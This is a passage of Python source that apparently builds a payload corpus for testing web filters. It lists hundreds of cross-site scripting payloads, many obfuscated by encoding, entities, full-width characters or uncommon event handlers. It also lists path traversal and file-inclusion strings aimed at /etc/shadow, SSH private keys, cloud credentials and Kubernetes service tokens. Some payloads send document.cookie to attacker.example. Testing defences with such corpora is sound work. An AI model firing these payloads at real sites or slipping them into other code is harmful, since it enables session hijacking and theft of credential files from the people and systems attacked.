    ('<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
     "decimal entities spell javascript:"),
    ('<a href="&#x6A;avascript:alert(1)">x</a>', "hex entity in javascript: scheme"),
    ('<a href="jav&#x09;ascript:alert(1)">x</a>', "entity-encoded tab in javascript: scheme"),
    ('<a href="javascript&colon;alert(1)">x</a>', "named entity &colon;"),
    ('<iframe src="jav&#x0A;ascript:alert(1)">', "entity-encoded newline in scheme"),
    ("java&#x09;script:alert(1)", "entity-encoded tab, bare URL"),
    ("&#106;avascript:alert(document.cookie)", "entity-encoded first letter, bare URL"),
    ("&#60;script&#62;alert(1)&#60;/script&#62;", "decimal HTML entities"),
    ("&lt;script&gt;alert(document.cookie)&lt;/script&gt;", "named HTML entities (double-decoding sink)"),
    ("&#x3c;img src=x onerror=alert(1)&#x3e;", "hex HTML entities"),
    ("&lt;svg onload=alert(1)&gt;", "named HTML entities"),
    ("\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "full-width angle brackets (NFKC)"),
    ("\uff1cimg src=x onerror=alert(1)\uff1e", "full-width angle brackets (NFKC)"),
    (fullwidth("<svg onload=alert(1)>"), "fully full-width (NFKC)"),
    ("<svg onload=alert&lpar;1&rpar;>", "entity-encoded parentheses"),
    ("<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>", "entities inside handler"),
    ('<img src=x onerror="&#x61;lert(1)">', "hex entity inside handler"),
    ("<scri\x00pt>alert(1)</scri\x00pt>", "null byte inside tag name"),
    ("<img src=x onerror=eval(atob('YWxlcnQoMSk='))>", "base64 via atob"),
    ("<script>eval(String.fromCharCode(97,108,101,114,116,40,49,41))</script>", "fromCharCode"),
    ("<script>\\u0061lert(1)</script>", "JS unicode escape"),
    ("javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
     "polyglot"),
    ("<<script>alert(1)//<</script>", "double open bracket"),
    ('<img src="x" onerror   =   "alert(1)">', "spaces around ="),
    ("<img src=`x` onerror=alert(1)>", "backtick attribute quotes"),
    ("<sCrIpT/src=//evil.example/x.js></ScRiPt>", "mixed case, slash separator"),
    ("{{ 7 * 7 }}", "SSTI with spaces"),
    ("$\u007b7*7\u007d", "SSTI"),
    ("\uff5b\uff5b7*7\uff5d\uff5d", "full-width braces SSTI (NFKC)"),
]

XSS_RAW = [
    ("%3Cscript%3Ealert(1)%3C%2Fscript%3E", "URL-encoded"),
    ("%253Cscript%253Ealert(1)%253C%252Fscript%253E", "double URL-encoding"),
    ("%3cimg%20src%3dx%20onerror%3dalert(1)%3e", "lowercase-hex URL-encoding"),
    ("%3Csvg%2Fonload%3Dalert(1)%3E", "URL-encoded"),
    ("%3C%00script%3Ealert(1)%3C/script%3E", "null byte after <"),
    ("java%09script:alert(1)", "encoded tab in scheme"),
    ("java%0ascript:alert(1)", "encoded newline in scheme"),
    ("%26%2360%3Bscript%26%2362%3Balert(1)%26%2360%3B/script%26%2362%3B", "URL-encoded HTML entities"),
    ("%EF%BC%9Cscript%EF%BC%9Ealert(1)%EF%BC%9C/script%EF%BC%9E", "URL-encoded full-width brackets"),
    ("%7B%7B7*7%7D%7D", "URL-encoded SSTI"),
    ("%24%7B7*7%7D", "URL-encoded SSTI"),
    ("%3C%25%3D%207*7%20%25%3E", "URL-encoded ERB SSTI"),
]

_XSS_SRC = ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>",
            '<a href="javascript:alert(1)">click</a>', "<body onload=alert(1)>",
            '"><script>alert(1)</script>', "<iframe src=\"javascript:alert(1)\"></iframe>",
            "<details open ontoggle=alert(1)>", "javascript:alert(document.domain)",
            "<input autofocus onfocus=alert(1)>", "<script>alert(document.cookie)</script>",
            "{{7*7}}", "${7*7}", "<svg/onload=alert(1)>"]

XSS_TRANSFORMS = [
    ("full URL-encoding (every byte)", enc_all, "raw", _XSS_SRC[0:4]),
    ("double URL-encoding", enc_double, "raw", _XSS_SRC[2:8]),
    ("triple URL-encoding", enc_triple, "raw", _XSS_SRC[0:1]),
    ("lowercase-hex URL-encoding", enc_lowerhex, "raw", _XSS_SRC[8:11]),
    ("null byte after <", null_after_lt, "raw", _XSS_SRC[4:6]),
    ("mixed case", mixcase, "plain", _XSS_SRC[3:10]),
    ("full-width angle brackets (NFKC)", fw_brackets, "plain", _XSS_SRC[5:9]),
    ("named HTML entities", html_named, "plain", _XSS_SRC[9:12]),
    ("decimal HTML entities", html_dec, "plain", _XSS_SRC[1:4]),
    ("hex HTML entities", html_hex, "plain", _XSS_SRC[6:8]),
    ("JSON \\u003c escapes", identity, "json", _XSS_SRC[0:6]),
]

# More XSS: event handlers the common lists do not name, tag/attribute separators,
# javascript: splitting, data: URIs, SVG/MathML, srcdoc/formaction, AngularJS/Vue
# expressions, and calls without parentheses.
_XSS_CALLS = ["alert(1)", "alert(document.domain)", "confirm(1)", "prompt(document.cookie)", "print()",
              "alert`1`", "top['al'+'ert'](1)", "self[atob('YWxlcnQ=')](1)", "fetch('//attacker.example/'+document.cookie)",
              "import('//attacker.example/m.js')", "eval(atob('YWxlcnQoMSk='))", "[1].find(alert)",
              "window['ale'+'rt'](document.cookie)", "location='//attacker.example/?c='+document.cookie",
              "setTimeout('ale'+'rt(1)')", "Function('ale'+'rt(1)')()", "top[/al/.source+/ert/.source](1)"]
_XSS_HANDLER_TAGS = [
    ("onpointerrawupdate", "<div {h}={c}>move here</div>"),
    ("onbeforetoggle", "<button popovertarget=p>open</button><div popover id=p {h}={c}>x</div>"),
    ("onauxclick", "<a {h}={c}>right-click me</a>"),
    ("oncontentvisibilityautostatechange", "<p style=content-visibility:auto {h}={c}>x</p>"),
    ("onscrollend", '<div style="overflow:auto;height:20px" {h}={c}><br><br><br><br></div>'),
    ("onpointerdown", "<b {h}={c}>tap</b>"),
    ("onpointerenter", "<span {h}={c}>x</span>"),
    ("onanimationstart", "<style>@keyframes k{}</style><i style=animation-name:k {h}={c}>"),
    ("onanimationend", "<style>@keyframes k{}</style><x style=animation:k {h}={c}>"),
    ("ontransitionend", "<a id=x style=transition:color+1s {h}={c} tabindex=1>x</a>"),
    ("onwebkitanimationend", "<x style=-webkit-animation-name:k {h}={c}>"),
    ("onfocusin", "<a href=# autofocus {h}={c}>x</a>"),
    ("onbeforeinput", "<div contenteditable {h}={c}>type</div>"),
    ("onbeforecopy", "<p contenteditable {h}={c}>copy me</p>"),
    ("onpaste", "<textarea {h}={c}></textarea>"),
    ("oncut", "<input value=x {h}={c}>"),
    ("onselectstart", "<p {h}={c}>select me</p>"),
    ("onwheel", "<div {h}={c}>scroll</div>"),
    ("oninput", "<input autofocus {h}={c}>"),
    ("oninvalid", "<form><input required {h}={c}><button>go</button></form>"),
    ("onsearch", "<input type=search autofocus {h}={c}>"),
    ("onpageshow", "<body {h}={c}>"),
    ("onhashchange", "<body {h}={c}>"),
    ("onmessage", "<body {h}={c}>"),
    ("onresize", "<body {h}={c}>"),
    ("onbegin", "<svg><animate attributeName=x dur=1s {h}={c}>"),
    ("onend", "<svg><animate attributeName=x dur=1s {h}={c}>"),
    ("onrepeat", "<svg><animate attributeName=x dur=1s repeatCount=2 {h}={c}>"),
    ("onloadstart", "<video src=x {h}={c}>"),
    ("oncanplay", "<audio src=/a.mp3 {h}={c}>"),
    ("onvolumechange", "<video controls {h}={c}>"),
    ("onformdata", "<form {h}={c}><button>x</button></form>"),
    ("onsecuritypolicyviolation", "<body {h}={c}>"),
    ("onbeforeunload", "<body {h}={c}>"),
    ("onslotchange", "<div {h}={c}><slot></slot></div>"),
    ("onbeforematch", "<div hidden=until-found {h}={c}>x</div>"),
    ("oncontextmenu", "<div {h}={c}>x</div>"),
    ("ondragstart", "<a draggable=true {h}={c}>drag</a>"),
    ("ondrop", "<div {h}={c}>drop</div>"),
    ("onkeydown", "<input autofocus {h}={c}>"),
    ("onblur", "<input autofocus {h}={c}><input autofocus>"),
    ("onmouseenter", "<p {h}={c}>x</p>"),
    ("ongotpointercapture", "<div {h}={c}>x</div>"),
    ("onratechange", "<video src=x {h}={c}>"),
    ("onselectionchange", "<input {h}={c} value=x>"),
    ("onfullscreenchange", "<div {h}={c}>x</div>"),
    ("onunhandledrejection", "<body {h}={c}>"),
    ("ontoggle", "<details open {h}={c}>"),
    ("onsuspend", "<video src=x {h}={c}>"),
    ("onpointerover", "<a {h}={c}>x</a>"),
    ("onload", "<iframe {h}={c}>"),
]


def _xss_handler_payloads():
    out = []
    for i, (h, tmpl) in enumerate(_XSS_HANDLER_TAGS):
        call = _XSS_CALLS[i % len(_XSS_CALLS)]
        c = '"%s"' % call if (" " in call or "'" in call or i % 4 == 3) else call
        out.append(tmpl.replace("{h}", h).replace("{c}", c))
    return out


XSS_GROUPS += [
    ("uncommon event handler", _xss_handler_payloads()),
    ("tag/attribute separators", [
        "<img/src/onerror=alert(1)>", "<svg onload=alert(1)//", "<img src=x onerror=alert(1)//", "<svg////////onload=alert(1)>",
        '<img src="x"/onerror="alert(1)">', "<img src=x onerror=alert(1) x=", '<svg/x="y"/onload=alert(1)>',
        "<details/open/ontoggle=alert(1)>", "<body/onload=alert(1)>", "<input/autofocus/onfocus=alert(1)>",
        "<x/onclick=alert(1)>click", "<a href=x onmouseover=alert(1)//", '"/><svg/onload=alert(1)>',
        "'><img src onerror=alert(1)>", "<img src=1 href=1 onerror=\"javascript:alert(1)\">",
    ]),
    ("javascript: URL, more", [
        "javas&#99;ript:alert(1)", '<a href="java&Tab;script:alert(1)">x</a>', '<a href="java&NewLine;script:alert(1)">x</a>',
        "JAVASCRIPT:alert(1)", "javascript:alert%281%29", "javascript:void(alert(1))", "javascript:window.onerror=alert;throw 1",
        "javascript:top['al'+'ert'](1)", '<a href=" javascript:alert(1)">x</a>', "jAvAsCrIpT:confirm(1)",
        "javascript:fetch('//attacker.example/'+document.cookie)", "<a href=javascript&colon;alert&lpar;1&rpar;>x</a>",
        '<a href="&#x6a;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3a;alert(1)">x</a>',
        "javascript:eval('al'+'ert(1)')", "javascript:\\u0061lert(1)", '<iframe src="JaVaScRiPt:alert(1)">',
    ]),
    ("data: URI, more", [
        '<iframe src="data:text/html;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
        '<object data="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=">',
        "<embed src=\"data:image/svg+xml,<svg onload=alert(1) xmlns='http://www.w3.org/2000/svg'/>\">",
        "data:text/html,<img src=x onerror=alert(1)>", "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
        '<meta http-equiv=refresh content="0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
        "<script src=data:,alert(1)></script>", "<script src=\"data:text/javascript,alert(document.domain)\"></script>",
    ]),
    ("SVG, more", [
        "<svg><a><set attributeName=href to=javascript:alert(1) /><text y=20>click</text></a></svg>",
        "<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x><text y=20>x</text></a></svg>",
        "<svg><discard onbegin=alert(1)>", "<svg><script href=data:,alert(1) />",
        '<svg><foreignObject><iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe></foreignObject></svg>',
        "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x\"/></svg>",
        "<svg><image href=x onerror=alert(1)>", "<svg><animatetransform onbegin=alert(1) attributeName=transform>",
        "<svg><style>@import'//attacker.example/x.css'</style></svg>", "<svg><title><style><img src=x onerror=alert(1)></style></title></svg>",
    ]),
    ("MathML and mutation XSS", [
        "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>click<mtext>x</mtext></maction></math>",
        '<math href="javascript:alert(1)">click</math>', '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
        "<math><style><img src=x onerror=alert(1)></style></math>",
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">", "<xmp><p title=\"</xmp><svg onload=alert(1)>\">",
        "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    ]),
    ("srcdoc / formaction / other sinks", [
        '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;">', "<iframe srcdoc='<svg onload=alert(1)>'>",
        "<form><button formaction=javascript:alert(1)>x</button></form>", "<form><input type=submit formaction=javascript:alert(1) value=go>",
        "<object data=javascript:alert(1)>", "<base href=javascript:/a/-alert(1)///////><a href=../x>test</a>",
        '<div style="width:expression(alert(1))">', "<x contenteditable onblur=alert(1)>lose focus",
        "<details ontoggle=alert(1) open>", "<portal src=javascript:alert(1)>", '<link rel=prefetch href="//attacker.example/?c=1">',
        "<isindex action=javascript:alert(1) type=image>", "<frameset onload=alert(1)>", "<table background=javascript:alert(1)>",
    ]),
    ("client-side template expression", [
        "{{$on.constructor('alert(1)')()}}", "{{'a'.constructor.prototype.charAt=[].join;$eval('x=alert(1)')}}",
        "{{toString.constructor.prototype.toString=toString.constructor.prototype.call;[\"a\",\"alert(1)\"].sort(toString.constructor)}}",
        "<div ng-app ng-csp><input autofocus ng-focus=$event.view.alert(1)>", "{{[].pop.constructor('alert(1)')()}}",
        "{{_c.constructor('alert(1)')()}}", "{{this.constructor.constructor('alert(document.cookie)')()}}",
        "<div v-html=\"'<img src=x onerror=alert(1)>'\"></div>", "{{x=valueOf.name.constructor.fromCharCode;constructor.constructor(x(97,108,101,114,116,40,49,41))()}}",
        "[[constructor.constructor('alert(1)')()]]", "{{$eval.constructor('alert(1)')()}}",
    ]),
    ("no parentheses", [
        "<svg onload=alert&#40;1&#41;>", "<svg onload=\"window.onerror=alert;throw 1\">", "<img src=x onerror=\"top['al'+'ert'](1)\">",
        "<svg onload=top[/al/.source+/ert/.source](1)>", "<img src=x onerror=self[atob('YWxlcnQ=')](1)>", "<img src=x onerror=location=name>",
        "<svg onload=eval(location.hash.slice(1))>", "<svg onload=setTimeout`alert\\x281\\x29`>", "<svg onload=[1].find(alert)>",
        "<img src=x onerror=\"a=alert,a(1)\">", "<svg onload=alert?.(1)>", "<img src=x onerror=throw/**/onerror=alert,1>",
        "<svg onload=Function`a${'alert\\x281\\x29'}```>", "<body onload=onerror=alert;throw'x'>",
        "<img src=x onerror=window[`al`+`ert`]`1`>", "<svg onload=location=`javas`+`cript:ale`+`rt%2`+`81%2`+`9`>",
    ]),
    ("JS string / script-block breakout, more", [
        '\\"-alert(1)-\\"', "</script><svg onload=alert(1)>", "'};alert(1);//", '"};alert(1);//', "'-confirm(1)-'",
        "';top['al'+'ert'](1);'", "</script><script>alert(1)</script>", "${alert(1)}", "`-alert(1)-`",
        "\\u0027-alert(1)-\\u0027", "</textarea><script>alert(1)</script>", "</style><svg onload=alert(1)>",
    ]),
]

XSS_EVASIONS += [
    ("<sVg OnLoAd=alert(1)>", "mixed case"),
    ("<img src=x oNeRrOr=alert(1)>", "mixed-case handler"),
    ("<svg\x0conload=alert(1)>", "form feed inside tag"),
    ("<img src=x\ronerror=alert(1)>", "carriage return inside tag"),
    ("<svg onload\t=\talert(1)>", "tabs around ="),
    ('<a href="\x01javascript:alert(1)">x</a>', "leading control character before scheme"),
    ("<a href=javascript&#58;alert(1)>x</a>", "decimal entity colon"),
    ("<a href=java&#115;cript:alert(1)>x</a>", "decimal entity inside scheme"),
    ("<a href=&#0000106;avascript:alert(1)>x</a>", "zero-padded decimal entity"),
    ("<a href=&#x0000006a;avascript:alert(1)>x</a>", "zero-padded hex entity"),
    ("<img src=x onerror=&#x61;&#x6c;&#x65;&#x72;&#x74;&#x28;&#x31;&#x29;>", "hex entities spell the call"),
    ("<svg><script>&#x61;lert(1)</script></svg>", "entity inside SVG script (XML parsing decodes it)"),
    ("<img src=x onerror=\\u0061lert(1)>", "JS unicode escape in handler"),
    ("<img src=x onerror=eval('\\x61lert(1)')>", "JS hex escape in eval"),
    ("<%00svg onload=alert(1)>", "literal %00 after < (double-decoding sink)"),
    ("<svg onload=alert(1)\u2028>", "line separator U+2028"),
    ("\uff1csvg/onload=alert(1)\uff1e", "full-width brackets around separator form"),
    ("<scr\u0131pt>alert(1)</scr\u0131pt>", "dotless i (upper-cases to SCRIPT)"),
    ("<svg onload=al\\u0065rt(1)>", "JS unicode escape inside identifier"),
]

XSS_RAW += [
    ("%3Cimg%20src%3Dx%0Aonerror%3Dalert(1)%3E", "%0A between attributes"),
    ("%3Csvg%0Conload%3Dalert(1)%3E", "%0C form feed separator"),
    ("%3Csvg%09onload%09%3D%09alert(1)%3E", "%09 tabs around ="),
    ("%3Cimg%2Fsrc%2Fonerror%3Dalert(1)%3E", "encoded slash separators"),
    ("%01javascript:alert(1)", "leading %01 before scheme"),
    ("%20javascript:alert(1)", "leading space before scheme"),
    ("javascript%3Aalert%281%29", "encoded colon and parentheses"),
    ("java%0dscript:alert(1)", "%0d inside scheme"),
    ("%3Cdetails%20open%20ontoggle%3Dalert(1)%3E", "URL-encoded"),
    ("%3Cdiv%20onpointerrawupdate%3Dalert(1)%3Ex%3C%2Fdiv%3E", "URL-encoded uncommon handler"),
    ("%3Cx%20onauxclick%3Dconfirm(1)%3Ex", "URL-encoded uncommon handler"),
    ("%22%3E%3Csvg%2Fonload%3Dalert(1)%3E", "attribute breakout, encoded"),
    ("%253Csvg%2520onload%253Dalert(1)%253E", "double URL-encoding"),
    ("%3Csvg%20onload%3Dalert%26%2340%3B1%26%2341%3B%3E", "encoded entity parentheses"),
    ("data:text/html%3Bbase64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg%3D%3D", "encoded data: URI"),
    ("%u003Csvg%20onload%3Dalert(1)%u003E", "IIS %u encoding (non-standard)"),
    ("%C0%BCscript%C0%BEalert(1)%C0%BC/script%C0%BE", "overlong UTF-8 angle brackets"),
    ("%E2%80%A8%3Csvg%20onload%3Dalert(1)%3E", "U+2028 then tag"),
]

_XSS_SRC2 = [_xss_handler_payloads()[0], _xss_handler_payloads()[2],
             "<img/src/onerror=alert(1)>", "<svg onload=alert(1)//", "JAVASCRIPT:alert(1)",
             "<form><button formaction=javascript:alert(1)>x</button></form>", "<svg onload=[1].find(alert)>",
             "<img src=x onerror=location=name>", "{{$on.constructor('alert(1)')()}}",
             "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>click<mtext>x</mtext></maction></math>",
             "<iframe srcdoc='<svg onload=alert(1)>'>", "</script><svg onload=alert(1)>"]

XSS_TRANSFORMS += [
    ("double URL-encoding", enc_double, "raw", _XSS_SRC2[3:6]),
    ("named HTML entities", html_named, "plain", _XSS_SRC2[6:9]),
    ("decimal HTML entities", html_dec, "plain", _XSS_SRC2[9:11]),
    ("JSON \\u003c escapes", identity, "json", _XSS_SRC2[0:6]),
    ("XML character references for < and >", identity, "xml:<>", _XSS_SRC[0:4] + _XSS_SRC2[0:4]),
]

# ----- Path traversal / file inclusion -------------------------------------
TRAV_GROUPS = [
    ("dot-dot-slash", [
        "../../../../etc/passwd", "../../../etc/shadow", "../../../../../../etc/hosts",
        "../../../../proc/self/environ", "../../../var/log/nginx/access.log",
        "../../../../../../../../../../etc/passwd", "images/../../../etc/passwd",
        "/var/www/../../etc/passwd", "../../../home/ubuntu/.ssh/id_rsa",
        "../../../../root/.bash_history", "../WEB-INF/web.xml", "../../.env",
        "../../../../home/ubuntu/.aws/credentials", "../../config/database.yml",
        "../../../../etc/passwd#", "../../../../etc/passwd?x=1",
    ]),
    ("dot-dot-backslash (Windows)", [
        "..\\..\\..\\..\\windows\\win.ini", "..\\..\\..\\boot.ini",
        "..\\..\\..\\Windows\\System32\\drivers\\etc\\hosts", "..\\..\\inetpub\\wwwroot\\web.config",
        "..\\/..\\/..\\/etc/passwd",
    ]),
    ("filter bypass (stripped ../)", [
        "....//....//....//etc/passwd", "..././..././..././etc/passwd", "....\\\\....\\\\windows\\\\win.ini",
    ]),
    ("absolute system path", [
        "/etc/passwd", "/etc/shadow", "/proc/self/environ", "/proc/self/cmdline", "/proc/version",
        "/etc/hosts", "C:\\Windows\\win.ini", "C:\\Windows\\System32\\drivers\\etc\\hosts",
        "C:/Windows/win.ini", "c:\\boot.ini", "/root/.ssh/authorized_keys", "/var/run/secrets/kubernetes.io/serviceaccount/token",
    ]),
    ("file/wrapper URI", [
        "file:///etc/passwd", "file:///c:/windows/win.ini",
        "php://filter/convert.base64-encode/resource=../../config.php",
        "php://filter/resource=/etc/passwd", "jar:file:///tmp/x.jar!/", "file://localhost/etc/shadow",
    ]),
    ("null-byte extension truncation", [
        "../../../../etc/passwd\x00.png", "../../../etc/shadow\x00.jpg", "..\\..\\windows\\win.ini\x00.txt",
    ]),
]

TRAV_EVASIONS = [
    ("\uff0e\uff0e\uff0f\uff0e\uff0e\uff0fetc\uff0fpasswd", "full-width dots and slashes (NFKC)"),
    ("\u2025/\u2025/\u2025/etc/passwd", "two-dot leader U+2025 (NFKC to '..')"),
    ("\uff0e\uff0e\uff3c\uff0e\uff0e\uff3cwindows\uff3cwin.ini", "full-width dots and backslashes (NFKC)"),
    ("..\\..\\..\\WiNdOwS\\wIn.InI", "mixed case (case-insensitive FS)"),
    ("C:\\WINDOWS\\WIN.INI", "upper case Windows path"),
    ("./../.././../etc/passwd", "interleaved ./"),
    ("..//..//..//etc//passwd", "doubled slashes"),
    ("/./././../../../etc/passwd", "leading ./ segments"),
]

TRAV_RAW = [
    ("..%2f..%2f..%2f..%2fetc%2fpasswd", "..%2f encoded slash"),
    ("..%2F..%2F..%2Fetc%2Fpasswd", "..%2F encoded slash (upper hex)"),
    ("%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd", "%2e%2e%2f fully encoded"),
    ("%2e%2e/%2e%2e/%2e%2e/etc/passwd", "%2e%2e encoded dots"),
    ("%2E%2E%2F%2e%2e%2Fetc/shadow", "mixed-case hex"),
    ("..%252f..%252f..%252fetc%252fpasswd", "..%252f double encoding"),
    ("%252e%252e%252f%252e%252e%252fetc%252fpasswd", "double encoding"),
    ("%25252e%25252e%25252fetc%25252fpasswd", "triple encoding"),
    ("..%5c..%5c..%5cwindows%5cwin.ini", "..%5c encoded backslash"),
    ("%2e%2e%5c%2e%2e%5cwindows%5cwin.ini", "encoded dots and backslash"),
    ("..%255c..%255cwindows%255cwin.ini", "double-encoded backslash"),
    ("..%c0%af..%c0%af..%c0%afetc%c0%afpasswd", "overlong UTF-8 slash %c0%af"),
    ("%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", "overlong UTF-8 dot %c0%ae"),
    ("%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc%c0%afpasswd", "overlong UTF-8 dot and slash"),
    ("%e0%80%ae%e0%80%ae/%e0%80%ae%e0%80%ae/etc/passwd", "overlong 3-byte UTF-8 dot"),
    ("..%c1%9c..%c1%9cwindows%c1%9cwin.ini", "overlong UTF-8 backslash %c1%9c"),
    ("%f0%80%80%ae%f0%80%80%ae/etc/passwd", "overlong 4-byte UTF-8 dot"),
    ("..%c0%af..%c0%afproc%c0%afself%c0%afenviron", "overlong UTF-8 slash"),
    ("%uff0e%uff0e%u2215%uff0e%uff0e%u2215etc%u2215passwd", "IIS %u encoding (non-standard)"),
    ("../../../../etc/passwd%00.png", "%00 extension truncation"),
    ("....%2f%2f....%2f%2fetc%2fpasswd", "encoded filter bypass"),
    ("..;/..;/..;/etc/passwd", "Tomcat ..;/ path parameter"),
    ("/..%2f..%2f..%2fetc/passwd", "leading slash, encoded"),
    ("..%2f..%2f..%2fproc%2fself%2fenviron", "..%2f to /proc"),
    ("..%2f..%2f..%2fwindows%2fwin.ini", "..%2f to win.ini"),
    ("%2e%2e%2f%2e%2e%2f%2e%2e%2fvar%2flog%2fauth.log", "encoded, log file"),
    ("..%252f..%252f..%252f..%252fproc%252fself%252fcmdline", "double encoding"),
    ("%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd%00", "encoded with trailing %00"),
    ("file%3A%2F%2F%2Fetc%2Fpasswd", "encoded file:// URI"),
    ("%2Fetc%2Fpasswd", "encoded absolute path"),
    ("C%3A%5CWindows%5Cwin.ini", "encoded Windows absolute path"),
]
TRAV_PATH_ONLY_RAW = [
    ("/..;/..;/etc/passwd", "Tomcat /..;/ normalisation bypass"),
    ("/static/../../../../etc/passwd", "raw ../ in request target (curl --path-as-is)"),
    ("/assets/..%2f..%2f..%2f..%2fetc/passwd", "encoded slash in path"),
    ("/download/%2e%2e/%2e%2e/%2e%2e/etc/shadow", "%2e%2e segments in path"),
    ("/api/v1/files/..%5c..%5c..%5cwindows%5cwin.ini", "%5c backslash in path"),
    ("/images/%252e%252e%252f%252e%252e%252fetc%252fpasswd", "double encoding in path"),
    ("/static/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", "overlong UTF-8 dot in path"),
    ("/public/..%c0%af..%c0%af..%c0%afetc/passwd", "overlong UTF-8 slash in path"),
]

_TR_SRC = ["../../../../etc/passwd", "../../../etc/shadow", "../../../../proc/self/environ",
           "..\\..\\..\\..\\windows\\win.ini", "/etc/passwd", "C:\\Windows\\win.ini",
           "../../../var/log/nginx/access.log", "../../../../root/.bash_history",
           "....//....//....//etc/passwd", "/proc/self/environ"]

TRAV_TRANSFORMS = [
    ("full URL-encoding (every byte)", enc_all, "raw", _TR_SRC[0:4]),
    ("double URL-encoding", enc_double, "raw", _TR_SRC[2:8]),
    ("lowercase-hex URL-encoding", enc_lowerhex, "raw", _TR_SRC[6:9]),
    ("full-width dots/slashes (NFKC)", fw_dots_slashes, "plain", _TR_SRC[1:4]),
    ("JSON \\u002e\\u002f escapes", identity, "json:./", _TR_SRC[0:3]),
]

# More traversal / local file inclusion: sensitive files named without any ../, odd
# encodings of the dot-dot-slash, null-byte truncation, and path-normalisation bypasses.
TRAV_GROUPS += [
    ("sensitive file, absolute Unix path", [
        "/etc/group", "/etc/issue", "/etc/hostname", "/etc/mysql/my.cnf", "/etc/nginx/nginx.conf",
        "/etc/apache2/apache2.conf", "/etc/ssh/sshd_config", "/root/.ssh/id_rsa", "/home/ubuntu/.ssh/id_rsa",
        "/proc/self/cwd/app.py", "/proc/1/environ", "/proc/self/status", "/proc/self/maps", "/proc/net/tcp",
        "/var/log/apache2/access.log", "/usr/local/etc/php/php.ini", "/opt/tomcat/conf/tomcat-users.xml",
        "/etc/sudoers", "/etc/crontab", "/root/.bash_history", "/var/lib/mysql/mysql/user.MYD",
        "/home/app/.aws/credentials", "/etc/kubernetes/admin.conf", "/proc/self/fd/7", "/etc/passwd#",
        "/etc/shadow?", "//etc/passwd", "/etc/./passwd", "/etc//shadow", "/var/www/html/wp-config.php",
    ]),
    ("sensitive file, absolute Windows path", [
        "C:\\inetpub\\wwwroot\\web.config", "c:/boot.ini", "C:\\Windows\\System32\\config\\SAM", "C:\\Windows\\repair\\sam",
        "C:\\Windows\\Panther\\Unattend.xml", "C:/xampp/apache/conf/httpd.conf", "C:\\Users\\Administrator\\NTUser.dat",
        "\\windows\\win.ini", "c:\\windows\\system.ini", "C:/Windows/System32/inetsrv/config/applicationHost.config",
        "\\\\?\\C:\\Windows\\win.ini", "file:///C:/Windows/win.ini", "C:\\ProgramData\\MySQL\\my.ini",
        "D:\\inetpub\\logs\\LogFiles\\W3SVC1\\u_ex240101.log",
    ]),
    ("sensitive file, relative (no ../)", [
        "WEB-INF/web.xml", "/WEB-INF/web.xml", "WEB-INF/classes/application.properties", "WEB-INF/classes/hibernate.cfg.xml",
        ".htaccess", ".htpasswd", "web.config", "/.env", ".env.production", "/app/.env", ".git/config", ".git/HEAD",
        "/.git/index", ".svn/entries", ".aws/credentials", ".ssh/id_rsa", "~/.ssh/id_rsa", "config/database.yml",
        "wp-config.php.bak", ".DS_Store", "composer.json/../.env", "/.well-known/../.git/config",
        "/actuator/../WEB-INF/web.xml", ".docker/config.json", ".npmrc", ".kube/config",
    ]),
    ("dot-dot, more spellings", [
        "..\\..\\..\\..\\..\\windows\\system32\\config\\sam", "../../../../../../windows/win.ini", "..\\\\..\\\\..\\\\etc\\\\passwd",
        "../../../../../etc/passwd%00", "..././..././..././..././etc/shadow", "....\\/....\\/etc/passwd", ".../.../.../etc/passwd",
        "..//..//..//..//etc/hosts", "../../../../../../../../../../../../../../../../etc/passwd", "static/../../../../etc/passwd",
        "../../../../usr/local/etc/php/php.ini", "../../../../../var/www/html/.env", "../../../../../proc/self/cmdline",
        "..\\..\\..\\..\\inetpub\\wwwroot\\global.asa", "../" * 6 + "etc/group", "..\\/..\\/..\\/..\\/windows\\/win.ini",
        "/../../../../etc/passwd", "./.././.././../etc/shadow",
    ]),
    ("null-byte truncation, more", [
        "/etc/passwd\x00.pdf", "..\\..\\boot.ini\x00.txt", "../../../etc/hosts\x00.html", "/proc/self/environ\x00.png",
        "C:\\Windows\\win.ini\x00.jpg",
    ]),
]

TRAV_EVASIONS += [
    ("0x2e0x2e/0x2e0x2e/0x2e0x2e/etc/passwd", "0x2e hex-literal dots"),
    ("0x2e0x2e0x2f0x2e0x2e0x2fetc0x2fpasswd", "0x2e/0x2f hex-literal dots and slashes"),
    ("\u2216..\u2216..\u2216windows\u2216win.ini", "set-minus U+2216 as backslash"),
    ("..\u2215..\u2215..\u2215etc\u2215passwd", "division slash U+2215"),
